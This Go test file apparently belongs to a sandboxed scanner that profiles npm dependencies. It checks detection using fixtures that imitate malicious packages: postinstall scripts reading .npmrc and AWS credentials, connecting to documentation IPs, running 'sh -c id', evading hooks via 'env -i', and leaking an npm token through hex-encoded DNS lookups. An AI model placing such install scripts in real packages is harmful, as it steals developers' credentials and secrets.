package scan_test

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/depbox/depbox/internal/sandboxtest"
	"github.com/depbox/depbox/internal/scan"
	"github.com/depbox/depbox/profile"
)

func options(t *testing.T, path string) scan.Options {
	t.Helper()
	sandboxtest.Require(t)
	self, runsc := sandboxtest.Binaries(t)
	return scan.Options{
		Path: path, CacheDir: sandboxtest.CacheDir(t), Runsc: runsc, Self: self,
		Node: sandboxtest.Node(t), Version: "test", StepTimeout: 20 * time.Second, RunTimeout: 3 * time.Minute,
		InstallPhase: true,
	}
}

func run(t *testing.T, o scan.Options) *profile.Profile {
	t.Helper()
	p, _ := runStats(t, o)
	return p
}

// runStats is run, with the scan's statistics.
func runStats(t *testing.T, o scan.Options) (*profile.Profile, *scan.Stats) {
	t.Helper()
	p, st, err := scan.Scan(context.Background(), o)
	if err != nil {
		t.Fatalf("scan %s: %v", o.Path, err)
	}
	if p.Incomplete {
		t.Fatalf("scan %s is incomplete: %+v", o.Path, p.Problems)
	}
	if st.Dropped != 0 {
		t.Fatalf("gVisor dropped %d events", st.Dropped)
	}
	return p, st
}

func importOf(t *testing.T, p *profile.Profile, path string) *profile.Behavior {
	t.Helper()
	d := p.Dependency(path)
	if d == nil {
		t.Fatalf("no dependency at %s in the profile", path)
	}
	b := d.Phases[profile.PhaseImport]
	if b == nil || b.Outcome == nil {
		t.Fatalf("%s has no import result", path)
	}
	return b
}

func hasFile(b *profile.Behavior, path, access string) bool {
	return slices.ContainsFunc(b.Files, func(f profile.File) bool { return f.Path == path && f.Access == access })
}

func hasProcess(b *profile.Behavior, argv ...string) bool {
	return slices.ContainsFunc(b.Processes, func(p profile.Process) bool { return slices.Equal(p.Argv, argv) })
}

// TestScanAttributesImportBehaviour runs the fixture bundle in the real
// sandbox and checks who did what: the malicious-like package gets its own
// behaviour, the package that requires it stays clean (subtraction), and the
// nested duplicate is told apart from the top-level package of the same name.
func TestScanAttributesImportBehaviour(t *testing.T) {
	p := run(t, options(t, "testdata/bundles/basic"))

	if got := len(p.Dependencies); got != 5 {
		t.Fatalf("%d dependencies, want 5: %+v", got, p.Dependencies)
	}
	evil := importOf(t, p, "node_modules/evil")
	if evil.Outcome.Status != "ok" {
		t.Errorf("evil import outcome %+v, want ok", evil.Outcome)
	}
	for _, want := range []struct{ path, access string }{
		{"/home/sbx_user/.aws/credentials", profile.AccessRead},
		{"/tmp/evil-drop.txt", profile.AccessWrite},
	} {
		if !hasFile(evil, want.path, want.access) {
			t.Errorf("evil: no %s of %s in %+v", want.access, want.path, evil.Files)
		}
	}
	if !slices.ContainsFunc(evil.Network, func(e profile.Endpoint) bool {
		return e.Address == "192.0.2.10" && e.Port == 443 && e.Protocol == "tcp" && e.Op == ""
	}) {
		t.Errorf("evil: no tcp connect to 192.0.2.10:443 in %+v", evil.Network)
	}
	if !hasProcess(evil, "sh", "-c", "id") || !hasProcess(evil, "id") {
		t.Errorf("evil: sh -c id and id not among processes %+v", evil.Processes)
	}

	// uses-evil loads evil: subtraction leaves it nothing of its own.
	if b := importOf(t, p, "node_modules/uses-evil"); !b.Empty() {
		t.Errorf("uses-evil should have no behaviour of its own, got %+v", b)
	}
	// Same name, two install paths, two versions.
	nested := importOf(t, p, "node_modules/@acme/util/node_modules/benign")
	if d := p.Dependency("node_modules/@acme/util/node_modules/benign"); d.Version != "2.0.0" {
		t.Errorf("nested benign version %s, want 2.0.0", d.Version)
	}
	if !hasFile(nested, "/etc/passwd", profile.AccessRead) {
		t.Errorf("nested benign@2.0.0 read /etc/passwd, profile has %+v", nested.Files)
	}
	if b := importOf(t, p, "node_modules/benign"); !b.Empty() {
		t.Errorf("top-level benign@1.0.0 did nothing, profile has %+v", b)
	}
	if b := importOf(t, p, "node_modules/@acme/util"); !b.Empty() {
		t.Errorf("@acme/util loads benign@2.0.0 and does nothing itself, profile has %+v", b)
	}
}

// TestScanInstallPhase: lifecycle scripts run in their own process trees,
// in order, with npm's environment, and are attributed to their package;
// the bundle on the host is not changed by their writes.
func TestScanInstallPhase(t *testing.T) {
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json": `{"name":"fn","version":"1.0.0"}`,
		"index.js":     `exports.handler = async () => 1;`,
		// TEST FIXTURE imitating a malicious postinstall; runs only in the sandbox.
		"node_modules/grabby/package.json": `{"name":"grabby","version":"0.0.1","scripts":{"preinstall":"echo pre > /tmp/grabby-pre.txt","postinstall":"node collect.js && sh -c id"}}`,
		"node_modules/grabby/collect.js": `const fs = require('fs');
try { fs.readFileSync(require('os').homedir() + '/.npmrc'); } catch (_) {}
fs.writeFileSync(__dirname + '/built.txt', process.env.npm_lifecycle_event + ' ' + process.env.npm_package_name);
require('net').connect(443, '198.51.100.7').on('error', () => {});`,
		"node_modules/grabby/index.js":    `module.exports = 1;`,
		"node_modules/quiet/package.json": `{"name":"quiet","version":"1.0.0"}`,
		"node_modules/quiet/index.js":     `module.exports = 2;`,
		// Scripts run as sbx_user, not root, even in the sandbox.
		"node_modules/uid/package.json": `{"name":"uid","version":"1.0.0","scripts":{"install":"test \"$(id -u):$(id -g)\" = 993:990"}}`,
		"node_modules/uid/index.js":     `module.exports = 3;`,
	})
	p := run(t, options(t, dir))
	g := p.Dependency("node_modules/grabby")
	if g == nil || !slices.Equal(g.InstallScripts, []string{"postinstall", "preinstall"}) {
		t.Fatalf("grabby install scripts: %+v", g)
	}
	inst := g.Phases[profile.PhaseInstall]
	if inst == nil || inst.Outcome == nil || inst.Outcome.Status != "ok" {
		t.Fatalf("grabby install phase: %+v", inst)
	}
	for _, f := range []struct{ path, access string }{
		{"/tmp/grabby-pre.txt", profile.AccessWrite},
		{"/home/sbx_user/.npmrc", profile.AccessRead},
		{"/var/task/node_modules/grabby/built.txt", profile.AccessWrite},
	} {
		if !hasFile(inst, f.path, f.access) {
			t.Errorf("grabby install: no %s of %s in %+v", f.access, f.path, inst.Files)
		}
	}
	if !hasProcess(inst, "sh", "-c", "id") || !hasProcess(inst, "node", "collect.js") {
		t.Errorf("grabby install processes %+v lack node collect.js and sh -c id", inst.Processes)
	}
	if !slices.ContainsFunc(inst.Network, func(e profile.Endpoint) bool { return e.Address == "198.51.100.7" && e.Port == 443 }) {
		t.Errorf("grabby install network %+v lacks 198.51.100.7:443", inst.Network)
	}
	if u := phaseOf(t, p, "node_modules/uid", profile.PhaseInstall); u.Outcome == nil || u.Outcome.Status != "ok" {
		t.Errorf("install scripts must run as 993:990, outcome %+v", u.Outcome)
	}
	if q := p.Dependency("node_modules/quiet"); q.Phases[profile.PhaseInstall] != nil {
		t.Errorf("quiet declares no scripts but has an install phase: %+v", q.Phases)
	}
	if _, err := os.Stat(filepath.Join(dir, "node_modules/grabby/built.txt")); err == nil {
		t.Error("the install script's write reached the host's copy of the bundle")
	}
}

// TestScanIsDeterministic scans the fixture as a directory and as a zip,
// twice, and wants the same profile byte for byte.
func TestScanIsDeterministic(t *testing.T) {
	o := options(t, "testdata/bundles/basic")
	zipPath := filepath.Join(t.TempDir(), "function.zip")
	writeZip(t, "testdata/bundles/basic", zipPath)
	var outs [][]byte
	for _, path := range []string{o.Path, zipPath, zipPath} {
		o.Path = path
		var buf bytes.Buffer
		if err := run(t, o).Write(&buf); err != nil {
			t.Fatal(err)
		}
		outs = append(outs, buf.Bytes())
	}
	for i := 1; i < len(outs); i++ {
		if !bytes.Equal(outs[0], outs[i]) {
			t.Errorf("profile %d differs from the first:\n%s\n---\n%s", i, outs[0], outs[i])
		}
	}
}

// TestScanStepTimeout: a dependency that never finishes importing is killed
// at the step timeout, reported as a timeout, and the profile is incomplete.
func TestScanStepTimeout(t *testing.T) {
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json":                   `{"name":"spin","version":"1.0.0"}`,
		"index.js":                       `exports.handler = async () => 1;`,
		"node_modules/spin/package.json": `{"name":"spin","version":"1.0.0"}`,
		"node_modules/spin/index.js":     `for (;;) {}`,
		"node_modules/ok/package.json":   `{"name":"ok","version":"1.0.0"}`,
		"node_modules/ok/index.js":       `module.exports = 1;`,
	})
	o := options(t, dir)
	o.StepTimeout = 2 * time.Second
	p, _, err := scan.Scan(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	if !p.Incomplete {
		t.Fatal("a timed-out dependency must make the profile incomplete")
	}
	if b := importOf(t, p, "node_modules/spin"); b.Outcome.Status != "timeout" {
		t.Errorf("spin outcome %+v, want timeout", b.Outcome)
	}
	if b := importOf(t, p, "node_modules/ok"); b.Outcome.Status != "ok" {
		t.Errorf("ok outcome %+v, want ok: one timeout must not spoil the others", b.Outcome)
	}
	if !slices.ContainsFunc(p.Problems, func(pr profile.Problem) bool {
		return pr.Code == "timeout" && pr.Dependency == "node_modules/spin" && pr.Fatal
	}) {
		t.Errorf("no fatal timeout problem naming node_modules/spin: %+v", p.Problems)
	}
}

// TestScanLoadError: a package that throws at import is an error outcome
// with its code, not a failed scan.
func TestScanLoadError(t *testing.T) {
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json":                      `{"name":"x","version":"1.0.0"}`,
		"index.js":                          `exports.handler = async () => 1;`,
		"node_modules/boom/package.json":    `{"name":"boom","version":"1.0.0"}`,
		"node_modules/boom/index.js":        `const e = new Error('no'); e.code = 'E_BOOM'; throw e;`,
		"node_modules/esm/package.json":     `{"name":"esm","version":"1.0.0","type":"module","exports":{"import":"./index.js"}}`,
		"node_modules/esm/index.js":         `import fs from 'node:fs'; fs.readFileSync('/etc/passwd'); export default 1;`,
		"node_modules/types/package.json":   `{"name":"types","version":"1.0.0","types":"index.d.ts"}`,
		"node_modules/types/index.d.ts":     `export {};`,
		"node_modules/uid/package.json":     `{"name":"uid","version":"1.0.0"}`,
		"node_modules/uid/index.js":         `const e = new Error('uid'); e.code = 'UID_' + process.getuid() + '_' + process.getgid(); throw e;`,
		"node_modules/missing/package.json": `{"name":"missing","version":"1.0.0"}`,
		"node_modules/missing/index.js":     `require('not-installed-anywhere');`,
	})
	p := run(t, options(t, dir))
	if b := importOf(t, p, "node_modules/boom"); b.Outcome.Status != "error" || b.Outcome.Error != "E_BOOM" {
		t.Errorf("boom outcome %+v, want error E_BOOM", b.Outcome)
	}
	// Lambda runs functions as sbx_user (993:990), and so do the steps.
	if b := importOf(t, p, "node_modules/uid"); b.Outcome.Error != "UID_993_990" {
		t.Errorf("imports ran as %s, want UID_993_990", b.Outcome.Error)
	}
	if b := importOf(t, p, "node_modules/missing"); b.Outcome.Status != "error" || b.Outcome.Error != "MODULE_NOT_FOUND" {
		t.Errorf("a package whose own require fails: outcome %+v, want error MODULE_NOT_FOUND", b.Outcome)
	}
	esm := importOf(t, p, "node_modules/esm")
	if esm.Outcome.Status != "ok" || !hasFile(esm, "/etc/passwd", profile.AccessRead) {
		t.Errorf("ESM-only package: outcome %+v files %+v, want ok and a read of /etc/passwd", esm.Outcome, esm.Files)
	}
	if b := importOf(t, p, "node_modules/types"); b.Outcome.Status != "no-entry" || b.Outcome.Error != "MODULE_NOT_FOUND" {
		t.Errorf("types-only package outcome %+v, want no-entry MODULE_NOT_FOUND", b.Outcome)
	}
}

// TestScanRejectsHostileBundle: input errors are InputErrors (exit 2).
func TestScanRejectsHostileBundle(t *testing.T) {
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{"package.json": `{"name":`, "index.js": `1`})
	_, _, err := scan.Scan(context.Background(), options(t, dir))
	var ie *scan.InputError
	if err == nil || !asInput(err, &ie) {
		t.Fatalf("malformed package.json: err %v, want an InputError", err)
	}
}

func asInput(err error, target **scan.InputError) bool {
	for err != nil {
		if e, ok := err.(*scan.InputError); ok {
			*target = e
			return true
		}
		u, ok := err.(interface{ Unwrap() error })
		if !ok {
			return false
		}
		err = u.Unwrap()
	}
	return false
}

func writeBundle(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func writeZip(t *testing.T, src, dst string) {
	t.Helper()
	f, err := os.Create(dst)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zw := zip.NewWriter(f)
	err = filepath.WalkDir(src, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		w, err := zw.Create(filepath.ToSlash(rel))
		if err != nil {
			return err
		}
		r, err := os.Open(p)
		if err != nil {
			return err
		}
		defer r.Close()
		_, err = io.Copy(w, r)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestScanHookBypass: ways around the in-process hook are recorded as such:
// a node started with an emptied environment (seen only in the syscall
// stream) and process.binding (seen by the hook).
func TestScanHookBypass(t *testing.T) {
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json": `{"name":"fn","version":"1.0.0"}`,
		"index.js":     `exports.handler = async () => 1;`,
		// TEST FIXTURES imitating hook evasion; they run only in the sandbox.
		"node_modules/unhooked/package.json": `{"name":"unhooked","version":"1.0.0"}`,
		"node_modules/unhooked/index.js":     `require('child_process').spawnSync('env', ['-i', '/usr/bin/node', '-e', 'require("fs").readFileSync("/etc/passwd")'], {stdio: 'ignore'});`,
		"node_modules/binder/package.json":   `{"name":"binder","version":"1.0.0"}`,
		"node_modules/binder/index.js":       `try { process.binding('fs'); } catch (_) {}`,
	})
	o := options(t, dir)
	p := run(t, o)
	if b := importOf(t, p, "node_modules/unhooked"); !slices.Contains(b.Capabilities, "unhooked-child") || !hasFile(b, "/etc/passwd", profile.AccessRead) {
		t.Errorf("unhooked: capabilities %v, files %+v; want unhooked-child and the child's read of /etc/passwd", b.Capabilities, b.Files)
	}
	if b := importOf(t, p, "node_modules/binder"); !slices.Contains(b.Capabilities, "process.binding") {
		t.Errorf("binder: capabilities %v lack process.binding", b.Capabilities)
	}
}

// TestImportCache: a re-scan reuses the import results of packages whose
// code did not change, gives the same profile byte for byte, and re-runs a
// changed package and the packages that resolve to it.
func TestImportCache(t *testing.T) {
	dir := t.TempDir()
	if err := copyDir("testdata/bundles/basic", dir); err != nil {
		t.Fatal(err)
	}
	o := options(t, dir)
	o.ImportCache = t.TempDir()
	scanOnce := func() ([]byte, *scan.Stats) {
		p, st, err := scan.Scan(context.Background(), o)
		if err != nil {
			t.Fatal(err)
		}
		if p.Incomplete {
			t.Fatalf("incomplete: %+v", p.Problems)
		}
		p.Bundle.Digest = "" // the third scan changes a file on purpose
		var buf bytes.Buffer
		if err := p.Write(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes(), st
	}
	first, st1 := scanOnce()
	if st1.Cached != 0 {
		t.Fatalf("first scan reused %d results from an empty cache", st1.Cached)
	}
	second, st2 := scanOnce()
	if st2.Cached != 5 {
		t.Errorf("second scan reused %d of 5 import results", st2.Cached)
	}
	if !bytes.Equal(first, second) {
		t.Errorf("cached profile differs:\n%s\n---\n%s", first, second)
	}
	// evil changes: it and uses-evil (which loads it) run again.
	if err := os.WriteFile(filepath.Join(dir, "node_modules/evil/extra.js"), []byte("// changed\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	third, st3 := scanOnce()
	if st3.Cached != 3 {
		t.Errorf("after changing evil, %d results reused, want 3 (all but evil and uses-evil)", st3.Cached)
	}
	if !bytes.Equal(first, third) {
		t.Errorf("profile after a behaviour-neutral change differs:\n%s\n---\n%s", first, third)
	}
}

func copyDir(src, dst string) error {
	return filepath.WalkDir(src, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		target := filepath.Join(dst, rel)
		if d.IsDir() {
			return os.MkdirAll(target, 0o755)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(target, b, 0o644)
	})
}

// TestScanUnhookedDNSExfil: an install script whose node runs without the
// hook (env -i) and leaks a token through a DNS name is still caught, from
// the fake DNS server's log, as exfiltration in the install phase of the
// function's process tree (unattributed: no record names the package).
func TestScanUnhookedDNSExfil(t *testing.T) {
	dir := t.TempDir()
	// TEST FIXTURE imitating a malicious postinstall; it runs only in the
	// sandbox and resolves only a *.invalid name.
	script := `env -i /usr/bin/node -e "const t=require('fs').readFileSync('/home/sbx_user/.npmrc','utf8').split('=')[1].trim(); const h=Buffer.from(t).toString('hex'); require('dns').lookup(h.slice(0,40)+'.'+h.slice(40)+'.x.invalid',()=>{})"`
	writeBundle(t, dir, map[string]string{
		"package.json":                   `{"name":"fn","version":"1.0.0"}`,
		"index.js":                       `exports.handler = async () => 1;`,
		"node_modules/leak/package.json": `{"name":"leak","version":"1.0.0","scripts":{"postinstall":` + strconv.Quote(script) + `}}`,
		"node_modules/leak/index.js":     `module.exports = 1;`,
	})
	p := run(t, options(t, dir))
	if b := phaseOf(t, p, "node_modules/leak", profile.PhaseInstall); !slices.Contains(b.Capabilities, "unhooked-child") {
		t.Errorf("leak: capabilities %v lack unhooked-child", b.Capabilities)
	}
	if p.App == nil {
		t.Fatal("no behaviour of the function's process tree at all")
	}
	app := p.App.Phases[profile.PhaseInstall]
	if app == nil || app.Unattributed == nil || !hasExfil(app.Unattributed, "NPM_TOKEN", "dns", "{canary:NPM_TOKEN}.x.invalid", "hex") {
		t.Fatalf("no unattributed DNS exfiltration of NPM_TOKEN in the install phase: %+v", app.Unattributed)
	}
}
